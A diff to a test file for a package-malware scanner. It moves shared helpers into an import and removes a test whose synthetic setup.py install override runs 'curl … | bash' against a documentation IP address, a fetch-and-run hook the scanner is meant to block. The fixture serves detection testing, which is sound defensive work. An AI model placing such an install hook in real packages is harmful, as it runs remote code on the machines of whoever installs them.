@@ -2,18 +2,7 @@
 store stay low; the malicious technique beside each still reaches high. Every package here is a
 small synthetic snippet."""
 
-from scans.engine import scan_archive
-
-from .conftest import make_tgz
-
-LOW = ("clean", "low")
-BLOCKING = ("high", "critical")
-SETUP_HEAD = "from setuptools import setup\n"
-
-
-def scan(files: dict, rules, name: str = "widgetry", eco: str = "pypi"):
-    return scan_archive(make_tgz(files, root=f"{name}-1.0/"), rules, filename=f"{name}-1.0.tar.gz", ecosystem=eco,
-                        package_name=name)
+from .test_benign_idioms import BLOCKING, LOW, SETUP_HEAD, scan
 
 
 # --- a build script's ordinary capabilities ------------------------------------------------------
@@ -64,15 +53,6 @@ def test_handing_setuptools_its_own_classes_and_a_develop_hook_stays_low(rules):
         "        shutil.copy('widgetry/static/index.js', 'share/jupyter/nbextensions/widgetry/')\n\n"
         "setup(name='widgetry', cmdclass={'install': install, 'build_py': build_py, 'develop': RegisterWidget})\n")
     assert scan({"setup.py": setup, "widgetry/__init__.py": ""}, rules).verdict in LOW
-
-
-def test_an_install_override_that_runs_a_download_still_blocks(rules):
-    setup = SETUP_HEAD + (
-        "from setuptools.command.install import install\nimport subprocess\n\n"
-        "class Post(install):\n    def run(self):\n        install.run(self)\n"
-        "        subprocess.call('curl -s http://203.0.113.7/i.sh | bash', shell=True)\n\n"
-        "setup(name='widgetry', cmdclass={'install': Post})\n")
-    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
 
 
 # --- .pth startup hooks ----------------------------------------------------------------------
